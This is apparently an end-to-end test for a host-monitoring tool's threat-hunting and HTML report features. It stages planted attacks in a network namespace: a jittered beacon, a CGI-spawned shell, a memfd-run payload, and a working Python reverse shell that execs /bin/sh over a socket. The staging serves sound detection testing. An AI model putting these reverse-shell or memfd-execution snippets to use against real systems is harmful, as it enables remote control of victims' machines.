#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""
End-to-end tests of `onmitsu hunt` and `onmitsu report` (issue 13): while the
recorder runs, for about 27 s,

- planted: a beacon every 1 s +-20 % from a program copied to /tmp (a copy of
  python3) to a listener in a network namespace; a web server
  (`python3 -m http.server --cgi`) running a CGI script, so that it starts a
  shell; a payload run from a memfd that connects out; a reverse shell (a
  process connects to a listener in the namespace, puts the socket on its
  stdin, stdout and stderr and execs /bin/sh; the listener sends `id; exit`);
- ordinary: curl every 2 s from /usr/bin (a cron-like job, a new process each
  time), and a long-lived session from /usr/bin/python3 (as ssh's).

`hunt --json` must find each planted case and rank it above every finding of
the ordinary traffic. `report --hunt --html` must render in headless Chromium
(offline) with the planted processes and the beacon's flows in the DOM; the
screenshot is kept in build/e2e-artifacts/. A second test builds a log of a
family of 10,000 processes, renders its report, checks that Chromium's DOM
holds every process, and prints how long Chromium took to load it (a figure,
not an assertion: the issue's 3 s is measured, not tested).

Needs root and chromium (scripts/setup). Ends with "N passed, N failed".
Usage: tests/e2e/test_hunt.py [NAME-SUBSTRING]
"""
import csv
import html as html_lib
from html.parser import HTMLParser
import json
import os
import random
import shutil
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402
from harness import BUILD, ONMITSU, sh  # noqa: E402

HOST4, PEER4 = "192.0.2.177", "192.0.2.178"
BEACON_PORT, HTTP_PORT, MEMFD_PORT, SESSION_PORT = 8443, 8080, 4444, 2222
REVSHELL_PORT = 9001
ARTIFACTS = os.path.join(BUILD, "e2e-artifacts")
# text from the log that looks like references: the page must show it, not load it
OUTSIDE_TEXT = "https://203.0.113.9/x.css?src=url(@import)"


class _Refs(HTMLParser):
    """Collects what a page would load or link to outside itself: URL-valued
    attributes that are not fragments, and url()/@import in style."""
    URL_ATTRS = {"src", "href", "action", "srcset", "poster", "data", "formaction",
                 "background", "xlink:href", "ping", "manifest"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.refs, self.in_style = [], False

    def _style(self, text):
        low = text.lower()
        if "url(" in low or "@import" in low:
            self.refs.append("style: " + text.strip()[:80])

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name in self.URL_ATTRS and value is not None and not value.startswith("#"):
                self.refs.append("<%s %s=%r>" % (tag, name, value))
            if name == "style" and value:
                self._style(value)
            if tag == "meta" and name == "http-equiv" and (value or "").lower() == "refresh":
                self.refs.append("<meta http-equiv=refresh>")
        self.in_style = tag == "style"

    def handle_endtag(self, tag):
        self.in_style = False

    def handle_data(self, data):
        if self.in_style:
            self._style(data)


def outside_references(page):
    p = _Refs()
    p.feed(page)
    p.close()
    return p.refs
PYTHON = os.path.realpath(sys.executable)

# the namespace's listener: accepts on every port; HTTP answers; bounded 120 s
LISTENER = r"""
import socket, threading, time
def serve(port, http):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((%(peer)r, port)); s.listen(64); s.settimeout(1)
    end = time.time() + 120
    while time.time() < end:
        try:
            c, _ = s.accept()
        except socket.timeout:
            continue
        c.settimeout(30)
        if http:
            try:
                c.recv(4096); c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok")
            except OSError:
                pass
            c.close()
        else:
            threading.Thread(target=lambda c=c: (c.recv(1), c.close()), daemon=True).start()
for port, http in ((%(b)d, False), (%(h)d, True), (%(m)d, False), (%(s)d, False)):
    threading.Thread(target=serve, args=(port, http), daemon=True).start()
print("listening", flush=True)
time.sleep(120)
""" % {"peer": PEER4, "b": BEACON_PORT, "h": HTTP_PORT, "m": MEMFD_PORT, "s": SESSION_PORT}

BEACON = r"""
import random, socket, time
for i in range(25):
    try:
        socket.create_connection((%(peer)r, %(port)d), 2).close()
    except OSError:
        pass
    time.sleep(random.uniform(0.8, 1.2))
""" % {"peer": PEER4, "port": BEACON_PORT}

MEMFD = r"""
import os
fd = os.memfd_create("payload", 0)
os.write(fd, open(%(py)r, "rb").read())
os.execv("/proc/self/fd/%%d" %% fd, ["payload", "-c",
         "import socket; socket.create_connection((%(peer)r, %(port)d), 5).close()"])
""" % {"py": PYTHON, "peer": PEER4, "port": MEMFD_PORT}

SESSION = r"""
import socket, time
s = socket.create_connection((%(peer)r, %(port)d), 5)
time.sleep(20)
s.close()
""" % {"peer": PEER4, "port": SESSION_PORT}

# the reverse shell's two ends: the attacker's listener (in the namespace;
# sends a command, prints the answer; bounded) and the victim's process
REVSHELL_LISTENER = r"""
import socket, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((%(peer)r, %(port)d)); s.listen(1); s.settimeout(20)
print("listening", flush=True)
c, _ = s.accept(); c.settimeout(10); c.sendall(b"id; exit\n")
out, end = b"", time.time() + 10
while time.time() < end:
    b = c.recv(4096)
    if not b:
        break
    out += b
print(out.decode(errors="replace").strip(), flush=True)
""" % {"peer": PEER4, "port": REVSHELL_PORT}

REVSHELL = r"""
import os, socket
s = socket.create_connection((%(peer)r, %(port)d), 5)
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh"])
""" % {"peer": PEER4, "port": REVSHELL_PORT}

NET = harness.Netns("hunt", HOST4, [PEER4], 28)


def chromium():
    for name in ("chromium", "chromium-browser"):
        path = shutil.which(name)
        if path:
            return path
    raise harness.CannotRun("chromium is not installed (scripts/setup installs it)")


def browse(page, *extra, timeout=60):
    """Chromium, headless and offline (no proxy, no network for the page:
    it is a file), on page; returns its stdout."""
    r = subprocess.run([chromium(), "--headless", "--disable-gpu", "--no-sandbox",
                        "--no-first-run", "--disable-extensions", "--proxy-server=127.0.0.1:9",
                        "--user-data-dir=" + tempfile.mkdtemp(prefix="onm-chromium-"),
                        *extra, "file://" + page],
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                       timeout=timeout)
    if r.returncode != 0:
        raise AssertionError("chromium failed (%d): %s" % (r.returncode, r.stderr[-2000:]))
    return r.stdout


def onmitsu(*args):
    r = sh(ONMITSU, *args, check=False, timeout=120)
    if r.returncode != 0:
        raise AssertionError("onmitsu %s: %d %s" % (" ".join(args), r.returncode, r.stderr))
    return r.stdout


def scenario(log_dir, work):
    """Runs the planted and ordinary activity while the recorder records;
    returns what the checks need."""
    updater = os.path.join(work, "updater")
    shutil.copy(PYTHON, updater)
    os.chmod(updater, 0o755)
    web = os.path.join(work, "www")
    os.makedirs(os.path.join(web, "cgi-bin"))
    cgi = os.path.join(web, "cgi-bin", "id.sh")
    with open(cgi, "w") as f:
        # the shell's child has a command line the page must show as text only
        f.write("#!/bin/sh\necho 'Content-Type: text/plain'\necho\nid\n"
                "/bin/sh -c : '%s'\n" % OUTSIDE_TEXT)
    os.chmod(cgi, 0o755)

    procs = []
    listener = subprocess.Popen(NET.exec + [PYTHON, "-c", LISTENER], stdout=subprocess.PIPE,
                                text=True)
    procs.append(listener)
    if listener.stdout.readline().strip() != "listening":
        raise AssertionError("the listener did not start")
    rec = harness.Recorder(log_dir)
    try:
        beacon = subprocess.Popen([updater, "-c", BEACON])
        procs.append(beacon)
        session = subprocess.Popen([PYTHON, "-c", SESSION])
        procs.append(session)
        port = 18000 + os.getpid() % 1000
        server = subprocess.Popen([PYTHON, "-m", "http.server", "--cgi", "--bind", "127.0.0.1",
                                   str(port)], cwd=web, stdout=subprocess.DEVNULL,
                                  stderr=subprocess.DEVNULL)
        procs.append(server)
        curl_pids, revshell_pid = [], None
        for i in range(12):  # ordinary: curl every 2 s; the planted cases in between
            c = subprocess.Popen(["/usr/bin/curl", "-s", "-m", "2",
                                  "http://%s:%d/" % (PEER4, HTTP_PORT)],
                                 stdout=subprocess.DEVNULL)
            curl_pids.append(c.pid)
            c.wait(timeout=10)
            if i == 3:
                body = b""
                for _ in range(100):  # the server is up within 10 s (bounded)
                    try:
                        body = urllib.request.urlopen(
                            "http://127.0.0.1:%d/cgi-bin/id.sh" % port, timeout=5).read()
                        break
                    except OSError:
                        time.sleep(0.1)
                if b"uid=" not in body:
                    raise AssertionError("the CGI script did not run: %r" % body)
            if i == 6:
                sh(PYTHON, "-c", MEMFD, timeout=30)
            if i == 8:
                revshell_pid = reverse_shell()
            time.sleep(2)
        beacon.wait(timeout=40)
        session.wait(timeout=30)
        server.terminate()
        server.wait(timeout=10)
    finally:
        for p in procs:
            if p.poll() is None:
                p.kill()
                p.wait()
        rec.stop()
    return {"updater": updater, "curl_pids": curl_pids, "session_pid": session.pid,
            "revshell_pid": revshell_pid}


def reverse_shell():
    """The attacker's listener in the namespace, the victim's shell here;
    returns the shell's pid once the listener had the answer to `id`."""
    lst = subprocess.Popen(NET.exec + [PYTHON, "-c", REVSHELL_LISTENER], stdout=subprocess.PIPE,
                           text=True)
    try:
        if lst.stdout.readline().strip() != "listening":
            raise AssertionError("the reverse shell's listener did not start")
        victim = subprocess.Popen([PYTHON, "-c", REVSHELL])
        victim.wait(timeout=30)
        answer = lst.stdout.readline().strip()
        lst.wait(timeout=30)
    finally:
        if lst.poll() is None:
            lst.kill()
            lst.wait()
    if "uid=" not in answer:
        raise AssertionError("the reverse shell did not answer: %r" % answer)
    return victim.pid


def exec_detail(log_dir, pid):
    """detail of the EXEC records of pid in the log, as dicts"""
    with open(os.path.join(log_dir, "onmitsu.csv"), newline="", encoding="utf-8") as f:
        return [dict(kv.split("=", 1) for kv in r["detail"].split())
                for r in csv.DictReader(f) if r["event"] == "EXEC" and r["pid"] == str(pid)]


def test_hunt_ranks_planted_above_ordinary_and_report_renders():
    os.makedirs(ARTIFACTS, exist_ok=True)
    chromium()  # before recording: a missing browser is reported at once
    log_dir = tempfile.mkdtemp(prefix="onm-hunt-log-")
    work = tempfile.mkdtemp(prefix="onm-hunt-", dir="/tmp")
    os.chmod(work, 0o755)  # the CGI script runs as nobody (http.server drops root)
    NET.up()
    try:
        s = scenario(log_dir, work)
        findings = [json.loads(line) for line in onmitsu("hunt", "--log-dir", log_dir,
                                                         "--json").splitlines()]

        def exe(f):
            return (f.get("process") or {}).get("exe") or ""

        def pid(f):
            return (f.get("process") or {}).get("pid")

        ordinary = [f for f in findings
                    if exe(f) == "/usr/bin/curl" or pid(f) in s["curl_pids"] or
                    pid(f) == s["session_pid"]]
        cases = {
            "beacon from /tmp": [f for f in findings if exe(f) == s["updater"]],
            "web server -> shell": [f for f in findings if f["kind"] == "server-shell"],
            "memfd payload": [f for f in findings if f["kind"] == "memfd-network"],
            "reverse shell": [f for f in findings if f["kind"] == "reverse-shell" and
                              pid(f) == s["revshell_pid"]],
        }
        summary = "\n".join("  %.3f %s %s" % (f["score"], f["kind"], f["reason"][:150])
                            for f in findings)
        for name, fs in cases.items():
            if not fs:
                raise AssertionError("%s: not found; findings:\n%s" % (name, summary))
        beacons = [f for f in cases["beacon from /tmp"] if f["kind"] == "beacon"]
        if not beacons or beacons[0]["dst"] != {"ip": PEER4, "port": BEACON_PORT,
                                                  "proto": "tcp"}:
            raise AssertionError("no beacon finding to %s:%d:\n%s" % (PEER4, BEACON_PORT,
                                                                     summary))
        if beacons[0]["records_total"] < 20:
            raise AssertionError("the beacon's records: %r" % beacons[0])
        if not cases["web server -> shell"][0]["related"] or \
                "http.server" not in cases["web server -> shell"][0]["related"]["cmdline"]:
            raise AssertionError("server-shell names no server: %r" % cases["web server -> shell"])
        # the shell's EXEC: its descriptors were the connection to the listener
        shells = [d for d in exec_detail(log_dir, s["revshell_pid"])
                  if d.get("stdio_peer") == "%s:%d" % (PEER4, REVSHELL_PORT)]
        if len(shells) != 1 or (shells[0].get("stdin"), shells[0].get("stdout")) != \
                ("tcp", "tcp"):
            raise AssertionError("the reverse shell's EXEC: %r" % shells)
        rs = cases["reverse shell"][0]
        if rs["dst"] != {"ip": PEER4, "port": REVSHELL_PORT, "proto": "tcp"} or \
                "%s:%d" % (PEER4, REVSHELL_PORT) not in rs["reason"] or \
                rs["records_total"] < 2 or rs["score"] < 0.95:
            raise AssertionError("the reverse shell's finding: %r" % rs)
        worst_planted = min(max(f["score"] for f in fs) for fs in cases.values())
        best_ordinary = max([f["score"] for f in ordinary] or [0])
        print("    planted (worst case's best) %.3f > ordinary (best) %.3f" %
              (worst_planted, best_ordinary))
        if not worst_planted > best_ordinary:
            raise AssertionError("ordinary traffic ranks with the planted cases:\n%s" % summary)

        page = os.path.join(ARTIFACTS, "hunt-report.html")
        onmitsu("report", "--log-dir", log_dir, "--hunt", "--html", page)
        with open(page) as f:
            html = f.read()
        refs = outside_references(html)
        if refs:
            raise AssertionError("the page refers to something outside it: %r" % refs[:5])
        if html_lib.escape(OUTSIDE_TEXT, quote=False) not in html:
            raise AssertionError("the page lacks the planted command line %r as text" %
                                 OUTSIDE_TEXT)
        dom = browse(page, "--dump-dom")
        for want in (s["updater"], "server-shell", "memfd-network", "/memfd:payload",
                     "reverse-shell",
                     "%s:%d" % (PEER4, BEACON_PORT), "/usr/bin/dash", "id=\"findings\"",
                     "data-load-ms="):
            if want not in dom:
                raise AssertionError("the rendered page lacks %r" % want)
        browse(page, "--screenshot=" + os.path.join(ARTIFACTS, "hunt-report.png"),
               "--window-size=1280,2400")
        if not os.path.getsize(os.path.join(ARTIFACTS, "hunt-report.png")):
            raise AssertionError("no screenshot")
    finally:
        NET.down()
        shutil.rmtree(log_dir, ignore_errors=True)
        shutil.rmtree(work, ignore_errors=True)


def family_log(path, n):
    """A log of one process with n - 1 descendants (100 children, each with
    its own children), each with a program, a flow and a module."""
    hdr = ("time,seq,event,pid,ppid,guid,parent_guid,uid,exe,cmdline,proto,src_ip,src_port,"
           "dst_ip,dst_port,direction,result,path,community_id,detail\n")
    rnd = random.Random(1)

    def guid(p):
        return "6f1c%04x-0000-4000-8000-%012x" % (p & 0xffff, p)
    lines = [hdr, "2026-11-25T00:00:00.000000Z,1,START,,,,,,,,,,,,,,,,,version=0.3.0\n"]
    seq = 2
    for i in range(n):
        pid = 1000 + i
        ppid = 999 if i == 0 else (1000 if i <= 100 else 1001 + (i % 100))
        t = "2026-11-25T00:%02d:%02d.%06dZ" % (i // 6000 % 60, i // 100 % 60, i % 100 * 1000)
        lines.append("%s,%d,FORK,%d,%d,%s,%s,1000,,,,,,,,,,,,\n" %
                     (t, seq, pid, ppid, guid(pid), guid(ppid)))
        lines.append("%s,%d,EXEC,%d,%d,%s,%s,1000,/usr/bin/worker%d,worker %d,,,,,,,,,,\n" %
                     (t, seq + 1, pid, ppid, guid(pid), guid(ppid), i % 7, i))
        lines.append("%s,%d,MODLOAD,%d,,%s,,1000,,,,,,,,,,/usr/lib/libw%d.so,,\n" %
                     (t, seq + 2, pid, guid(pid), i % 5))
        lines.append("%s,%d,NET,%d,,%s,,1000,,,tcp,192.0.2.10,%d,198.51.100.%d,443,out,"
                     "established,,,\n" % (t, seq + 3, pid, guid(pid), 30000 + i % 30000,
                                            rnd.randrange(1, 250)))
        seq += 4
    with open(path, "w") as f:
        f.write("".join(lines))


def test_report_of_10000_processes_load_time():
    chromium()
    os.makedirs(ARTIFACTS, exist_ok=True)
    log_dir = tempfile.mkdtemp(prefix="onm-hunt-family-")
    try:
        family_log(os.path.join(log_dir, "onmitsu.csv"), 10000)
        page = os.path.join(ARTIFACTS, "family-10000.html")
        t0 = time.time()
        onmitsu("report", "--log-dir", log_dir, "--guid", "6f1c03e8-0000-4000-8000-0000000003e8",
                "--html", page)
        made = time.time() - t0
        with open(page) as f:
            n = f.read().count("<li class=\"proc")
        if n != 10000:
            raise AssertionError("the page shows %d processes, want 10000" % n)
        # the page in a frame of a small one that notes when the frame has
        # loaded: the DOM dumped is the small page's, not 10,000 processes'
        frame = os.path.join(ARTIFACTS, "family-10000-frame.html")
        with open(frame, "w") as f:
            f.write("<!DOCTYPE html><title>-</title><iframe src=\"family-10000.html\" "
                    "style=\"width:1280px;height:1000px\" onload=\"document.title="
                    "'loaded '+Math.round(performance.now())\"></iframe>")
        t0 = time.time()
        dom = browse(frame, "--dump-dom", timeout=120)
        wall = time.time() - t0
        if "<title>loaded " not in dom:
            raise AssertionError("the frame did not load: %s" % dom[:500])
        load_ms = dom.split("<title>loaded ", 1)[1].split("<", 1)[0]
        print("    report of 10000 processes: %.1f MB, written in %.2f s; loaded in Chromium "
              "%s ms after navigation (whole headless run %.1f s)" %
              (os.path.getsize(page) / 1e6, made, load_ms, wall))
        # the page itself, rendered: every process is in the DOM, and the
        # script opened the flows of the process asked about
        dom = browse(page, "--dump-dom", timeout=120)
        n = dom.count("<li class=\"proc")
        if n != 10000:
            raise AssertionError("the rendered page shows %d processes, want 10000" % n)
        head = dom.split("<li class=\"proc flagged\"", 1)[1].split("<li", 1)[0]
        if "<table>" not in head or "192.0.2.10:30000" not in head or \
                "aria-expanded=\"true\"" not in head:
            raise AssertionError("the flows of the process asked about are not open: %s" %
                                 head[:1000])
    finally:
        shutil.rmtree(log_dir, ignore_errors=True)


TESTS = [test_hunt_ranks_planted_above_ordinary_and_report_renders,
         test_report_of_10000_processes_load_time]


def main():
    only = sys.argv[1] if len(sys.argv) > 1 else ""
    rc = harness.needs_root("e2e-hunt", "hunt and report tests")
    if rc is not None:
        return rc
    if not os.access(ONMITSU, os.X_OK):
        print("FAIL e2e-hunt: %s is missing; run make setup all first" % ONMITSU)
        print("0 passed, 1 failed")
        return 1
    results = [harness.run_test(t.__name__, t) for t in TESTS if only in t.__name__]
    return harness.report("e2e-hunt", results)


if __name__ == "__main__":
    sys.exit(main())
